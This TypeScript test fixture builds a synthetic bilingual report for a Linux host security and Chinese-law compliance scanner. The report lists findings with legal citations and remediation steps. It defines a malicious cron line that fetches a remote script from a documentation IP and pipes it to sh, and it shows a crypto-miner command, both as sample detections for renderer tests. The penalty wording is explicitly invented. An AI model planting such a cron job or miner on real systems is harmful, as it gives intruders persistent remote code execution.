/**
 * A hand-built Report shared by the renderer tests: findings in every severity, where of every kind,
 * citations with each liability type, operator duties and intruder conduct, penalties of every printable
 * status, a not-assessed and an error check, gaps. Synthetic data (documentation IP ranges, fake names,
 * made-up penalty wording); the citations imitate what the legal catalogue renders, and the statements,
 * duty holders and penalty lines go through the catalogue's own renderer.
 */
import { dutyLabel, legalStatement, penaltyText } from '../legal/render.ts';
import type { CheckResult, Finding, Report } from '../core/finding.ts';
import type { DutyHolder, Liability, Penalty } from '../legal/types.ts';

type Lang = 'zh' | 'en';
interface T {
  zh: string;
  en: string;
}

const CITE = {
  'csl-23/2': {
    zh: '《网络安全法》第二十三条第二项(原第二十一条)',
    en: 'Cybersecurity Law Art. 23(2) (formerly Art. 21)',
  },
  'csl-23/3': {
    zh: '《网络安全法》第二十三条第三项(原第二十一条)',
    en: 'Cybersecurity Law Art. 23(3) (formerly Art. 21)',
  },
  'csl-27': {
    zh: '《网络安全法》第二十七条(原第二十五条)',
    en: 'Cybersecurity Law Art. 27 (formerly Art. 25)',
  },
  'csl-61': {
    zh: '《网络安全法》第六十一条(原第五十九条)',
    en: 'Cybersecurity Law Art. 61 (formerly Art. 59)',
  },
  'cl-285/2': { zh: '《刑法》第二百八十五条第二款', en: 'Criminal Law Art. 285 para. 2' },
  'cl-286': { zh: '《刑法》第二百八十六条', en: 'Criminal Law Art. 286' },
  'ndsr-9': {
    zh: '《网络数据安全管理条例》第九条',
    en: 'Network Data Security Management Regulations Art. 9',
  },
  'pipl-51': { zh: '《个人信息保护法》第五十一条', en: 'Personal Information Protection Law Art. 51' },
  'pipl-69': { zh: '《个人信息保护法》第六十九条', en: 'Personal Information Protection Law Art. 69' },
  mining2021: {
    zh: '《关于整治虚拟货币"挖矿"活动的通知》(发改运行〔2021〕1283号)',
    en: 'NDRC Notice on Rectifying Virtual-Currency Mining (Fa Gai Yun Xing [2021] No. 1283)',
  },
} satisfies Record<string, T>;

type CiteKey = keyof typeof CITE;

const LIABILITY: Record<CiteKey, Liability[]> = {
  'csl-23/2': ['administrative'],
  'csl-23/3': ['administrative'],
  'csl-27': ['administrative'],
  'csl-61': ['administrative'],
  'cl-285/2': ['criminal'],
  'cl-286': ['criminal'],
  'ndsr-9': ['administrative'],
  'pipl-51': ['administrative'],
  'pipl-69': ['civil'],
  mining2021: ['administrative'],
};

/** Duty holders of the operator-duty provisions the sample cites. */
const DUTIES: Record<string, DutyHolder[]> = {
  'csl-23': ['network-operator'],
  'csl-27': ['network-operator'],
  'csl-61': ['network-operator', 'cii-operator'],
  'ndsr-9': ['data-handler'],
  'pipl-51': ['pi-handler'],
  'pipl-69': ['pi-handler'],
  mining2021: ['anyone', 'data-centre'],
};

/** A figure no renderer may ever print: it belongs to an UNVERIFIED penalty. */
export const UNVERIFIED_FIGURE = '9999999';

/** Penalty tiers for conduct on the sample's scan date, one of each printable status (made-up wording). */
const TIERS: Penalty[] = [
  {
    under: { zh: '第六十一条第一款', en: 'Art. 61 para. 1' },
    conduct: { from: '2026-01-01' },
    status: 'V-OFF',
    text: {
      zh: '责令改正并警告,可并处1万元至5万元罚款。',
      en: 'an order to correct and a warning, with a possible fine of RMB 10,000–50,000.',
    },
  },
  {
    under: { zh: '第六十一条(加重情形)', en: 'Art. 61 (aggravated cases)' },
    conduct: { from: '2026-01-01' },
    status: 'V-2ND',
    text: {
      zh: '造成大量数据泄露等后果的,处50万元至200万元罚款。',
      en: 'where large-scale data leakage results, RMB 500,000–2,000,000.',
    },
  },
  {
    under: {
      zh: '加重档次是否适用于非关键信息基础设施运营者',
      en: 'whether the aggravated tiers reach non-CIIOs',
    },
    conduct: { from: '2026-01-01' },
    status: 'UNVERIFIED',
    text: {
      zh: `有解读认为上限为${UNVERIFIED_FIGURE}元。`,
      en: `One commentary puts the cap at RMB ${UNVERIFIED_FIGURE}.`,
    },
  },
];

/** A criminal threshold: carried by the intruder citations, never listed among the operator's penalties. */
const THRESHOLD: Penalty = {
  under: { zh: '第二百八十五条第二款、第二百八十六条', en: 'Art. 285 para. 2 and Art. 286' },
  status: 'V-TEXT',
  text: {
    zh: '控制20台以上系统的行为可能达到"情节严重"的标准。',
    en: 'control of 20 or more systems may meet "serious circumstances".',
  },
};

/** Penalties of each provision cited; a provision without an entry has none listed. */
const PENALTIES: Record<string, Penalty[]> = {
  'cl-285': [THRESHOLD],
  'cl-286': [THRESHOLD],
  'csl-23': TIERS,
  'csl-27': TIERS,
  'csl-61': TIERS,
  'pipl-69': [
    {
      under: { zh: '第六十九条', en: 'Art. 69' },
      status: 'V-TEXT',
      text: {
        zh: '不能证明自己没有过错的,承担损害赔偿等侵权责任。',
        en: 'a handler that cannot show it was not at fault compensates the harm.',
      },
    },
  ],
};

function legal(keys: CiteKey[], lang: Lang): Finding['legal'] {
  return keys.map((key) => {
    const [provision, clause] = key.split('/') as [string, string | undefined];
    // As the checks do: the Criminal Law is cited for what an intruder's conduct may meet.
    const party = provision.startsWith('cl-') ? ('intruder' as const) : ('operator' as const);
    return {
      provision,
      ...(clause ? { clause } : {}),
      liability: [...LIABILITY[key]],
      citation: CITE[key][lang],
      party,
      statement: legalStatement(CITE[key][lang], party, LIABILITY[key], lang),
      holders:
        party === 'intruder'
          ? [lang === 'zh' ? '入侵者' : 'the intruder']
          : (DUTIES[provision] ?? []).map((d) => dutyLabel(d, lang)),
      penalties: (PENALTIES[provision] ?? []).map((p) => penaltyText(p, lang)),
    };
  });
}

interface Spec extends Omit<Finding, 'title' | 'message' | 'remediation' | 'legal'> {
  title: T;
  message: T;
  remediation: T;
  legal: CiteKey[];
}

export const MALICIOUS_CRON_LINE = '*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh';

const SPECS: Spec[] = [
  {
    checkId: 'accounts-uid0-found',
    category: 'rogue-root-account',
    severity: 'critical',
    title: { zh: '存在 root 以外的 UID 0 账户', en: 'An account other than root has UID 0' },
    message: {
      zh: '账户 toor 的 UID 为 0,拥有与 root 相同的全部权限。',
      en: 'Account toor has UID 0 and therefore every power root has.',
    },
    where: [{ path: '/etc/passwd', line: 3 }],
    legal: ['csl-23/2', 'cl-285/2'],
    remediation: {
      zh: '核实账户 toor 的来历;若非本单位创建,先保全证据,再执行 usermod -L toor 锁定并按应急预案处置。',
      en: 'Find out who created toor; if nobody here did, preserve evidence, then lock it with usermod -L toor and follow the incident plan.',
    },
  },
  {
    checkId: 'cron-remote-script-found',
    category: 'malicious-cron',
    severity: 'critical',
    title: { zh: '计划任务下载并执行远程脚本', en: 'A scheduled task downloads and runs a remote script' },
    message: {
      zh: `/etc/cron.d/sysupdate 中的任务每 5 分钟执行:${MALICIOUS_CRON_LINE}`,
      en: `A task in /etc/cron.d/sysupdate runs every 5 minutes: ${MALICIOUS_CRON_LINE}`,
    },
    where: [{ path: '/etc/cron.d/sysupdate', line: 1 }],
    legal: ['csl-27', 'cl-286'],
    remediation: {
      zh: '保全 /etc/cron.d/sysupdate 后将其删除;\n检查 203.0.113.9 下发的脚本改动了哪些文件。',
      en: 'Preserve /etc/cron.d/sysupdate, then delete it;\nfind out which files the script from 203.0.113.9 changed.',
    },
  },
  {
    checkId: 'database-redis-exposed',
    category: 'database-exposed',
    severity: 'high',
    title: { zh: 'Redis 在所有网络接口上监听', en: 'Redis listens on all interfaces' },
    message: {
      zh: 'Redis 监听 0.0.0.0:6379,任何能连到本机的人都可以访问。',
      en: 'Redis listens on 0.0.0.0:6379, so anyone who can reach this host can use it.',
    },
    where: [{ socket: 'tcp 0.0.0.0:6379' }, { path: '/etc/redis/redis.conf', line: 69 }],
    legal: ['csl-23/2', 'ndsr-9'],
    remediation: {
      zh: '在 /etc/redis/redis.conf 中设置 bind 127.0.0.1 并设置 requirepass,然后重启 redis-server。',
      en: 'Set bind 127.0.0.1 and requirepass in /etc/redis/redis.conf, then restart redis-server.',
    },
  },
  {
    checkId: 'log-retention-too-short',
    category: 'log-retention-short',
    severity: 'high',
    title: { zh: '系统日志留存不足六个月', en: 'System logs are kept for less than six months' },
    message: {
      zh: '/var/log/auth.log 按 logrotate 设置仅保留约 28 天,法定最低为 180 天。',
      en: '/var/log/auth.log is kept for about 28 days under logrotate; the legal minimum is 180 days.',
    },
    where: [{ path: '/etc/logrotate.d/rsyslog', line: 4 }],
    legal: ['csl-23/3', 'csl-61'],
    remediation: {
      zh: '在 /etc/logrotate.d/rsyslog 中设置 rotate 26 与 weekly(约 182 天)。',
      en: 'Set rotate 26 with weekly in /etc/logrotate.d/rsyslog (about 182 days).',
    },
  },
  {
    checkId: 'mining-process-running',
    category: 'mining',
    severity: 'high',
    title: { zh: '服务器上运行着挖矿程序', en: 'A crypto-mining program is running' },
    message: {
      zh: '进程 4242(/tmp/.x/kworkerd)连接矿池 198.51.100.7:3333。',
      en: 'Process 4242 (/tmp/.x/kworkerd) is connected to the mining pool 198.51.100.7:3333.',
    },
    where: [
      { pid: 4242, command: '/tmp/.x/kworkerd -o stratum+tcp://198.51.100.7:3333' },
      { socket: 'tcp 192.0.2.10:51234 -> 198.51.100.7:3333', pid: 4242 },
    ],
    legal: ['mining2021', 'cl-285/2'],
    remediation: {
      zh: '保全 /tmp/.x 与进程信息后执行 kill -9 4242,并查明程序是如何被放进来的。',
      en: 'Preserve /tmp/.x and the process details, then kill -9 4242 and find out how it got in.',
    },
  },
  {
    checkId: 'pii-plaintext-found',
    category: 'plaintext-personal-data',
    severity: 'medium',
    title: { zh: '个人信息以明文存储', en: 'Personal information is stored unencrypted' },
    message: {
      zh: '文件中有 1200 条身份证号,例如 110101********1234。',
      en: 'The file holds 1200 resident ID numbers, e.g. 110101********1234.',
    },
    where: [{ path: '/var/www/app/export/用户 名单.csv', line: 2 }],
    legal: ['pipl-51', 'pipl-69'],
    remediation: {
      zh: '删除导出文件,或将其加密存放并限制访问。',
      en: 'Delete the export, or encrypt it and restrict who can read it.',
    },
  },
  {
    checkId: 'sshd-password-allowed',
    category: 'ssh-password-auth',
    severity: 'medium',
    title: { zh: 'SSH 允许密码登录', en: 'SSH accepts password logins' },
    message: {
      zh: 'sshd 的 PasswordAuthentication 为 yes。',
      en: 'sshd has PasswordAuthentication yes.',
    },
    where: [{ path: '/etc/ssh/sshd_config', line: 58 }],
    legal: ['csl-23/2'],
    remediation: {
      zh: '在 /etc/ssh/sshd_config 中设置 PasswordAuthentication no,然后执行 systemctl reload sshd。',
      en: 'Set PasswordAuthentication no in /etc/ssh/sshd_config, then run systemctl reload sshd.',
    },
  },
  {
    checkId: 'auth-bruteforce-found',
    category: 'brute-force',
    severity: 'low',
    title: { zh: '同一来源多次登录失败', en: 'Repeated failed logins from one source' },
    message: {
      zh: '198.51.100.23 在 24 小时内登录失败 312 次。',
      en: '198.51.100.23 failed to log in 312 times within 24 hours.',
    },
    where: [{ path: '/var/log/auth.log', line: 1207 }],
    legal: ['csl-23/2'],
    remediation: {
      zh: '启用 fail2ban 或在防火墙中限制 22 端口的来源地址。',
      en: 'Enable fail2ban, or restrict who may reach port 22 in the firewall.',
    },
  },
  {
    checkId: 'audit-auditd-missing',
    category: 'audit-logging-missing',
    severity: 'info',
    title: { zh: '未安装 auditd', en: 'auditd is not installed' },
    message: {
      zh: '未找到 auditd 配置,系统调用层面没有审计记录。',
      en: 'No auditd configuration was found; system calls are not audited.',
    },
    where: [{ path: '/etc/audit/auditd.conf' }],
    legal: [],
    remediation: {
      zh: '执行 apt-get install auditd 并启用 auditd 服务。',
      en: 'Run apt-get install auditd and enable the auditd service.',
    },
  },
];

const CHECKS: CheckResult[] = [
  { checkId: 'accounts-empty-password-found', outcome: 'pass' },
  { checkId: 'accounts-uid0-found', outcome: 'fail' },
  { checkId: 'audit-auditd-missing', outcome: 'fail' },
  { checkId: 'auth-bruteforce-found', outcome: 'fail' },
  { checkId: 'cron-remote-script-found', outcome: 'fail' },
  { checkId: 'database-redis-exposed', outcome: 'fail' },
  { checkId: 'firewall-policy-missing', outcome: 'pass' },
  {
    checkId: 'log-journald-disabled',
    outcome: 'not-assessed',
    reason: '/var/log/journal: permission-denied',
  },
  { checkId: 'log-retention-too-short', outcome: 'fail' },
  { checkId: 'mining-process-running', outcome: 'fail' },
  { checkId: 'pii-plaintext-found', outcome: 'fail' },
  { checkId: 'preload-hijack-found', outcome: 'pass' },
  { checkId: 'sshd-password-allowed', outcome: 'fail' },
  { checkId: 'sshd-root-login-allowed', outcome: 'pass' },
  {
    checkId: 'webshell-php-found',
    outcome: 'error',
    reason: 'TypeError: cannot read properties of undefined',
  },
];

/** The sample report in one language. Fresh objects each call, so tests may mutate them. */
export function sampleReport(lang: Lang = 'zh'): Report {
  const findings: Finding[] = SPECS.map((s) => ({
    checkId: s.checkId,
    category: s.category,
    severity: s.severity,
    title: s.title[lang],
    message: s.message[lang],
    where: s.where.map((w) => ({ ...w })),
    legal: legal(s.legal, lang),
    remediation: s.remediation[lang],
  }));
  const summary = { critical: 0, high: 0, medium: 0, low: 0, info: 0, notAssessed: 0 };
  for (const f of findings) summary[f.severity]++;
  summary.notAssessed = CHECKS.filter((c) => c.outcome === 'not-assessed').length;
  return {
    schemaVersion: 1,
    tool: { name: 'hegui', version: '0.1.0' },
    lang,
    host: { hostname: 'web-01', os: 'Debian GNU/Linux 12 (bookworm)', root: '/' },
    startedAt: '2026-11-23T10:00:00.000Z',
    finishedAt: '2026-11-23T10:00:01.200Z',
    summary,
    findings,
    checks: CHECKS.map((c) => ({ ...c })),
    gaps: [
      { section: 'logging', path: '/var/log/journal', reason: 'permission-denied' },
      { section: 'processes', path: '/proc/4242/exe', reason: 'read-error', detail: 'EACCES' },
    ],
  };
}

/** A report of a clean host: no findings, every check passed. */
export function cleanReport(lang: Lang = 'zh'): Report {
  const r = sampleReport(lang);
  return {
    ...r,
    summary: { critical: 0, high: 0, medium: 0, low: 0, info: 0, notAssessed: 0 },
    findings: [],
    checks: r.checks.map((c) => ({ checkId: c.checkId, outcome: 'pass' as const })),
    gaps: [],
  };
}
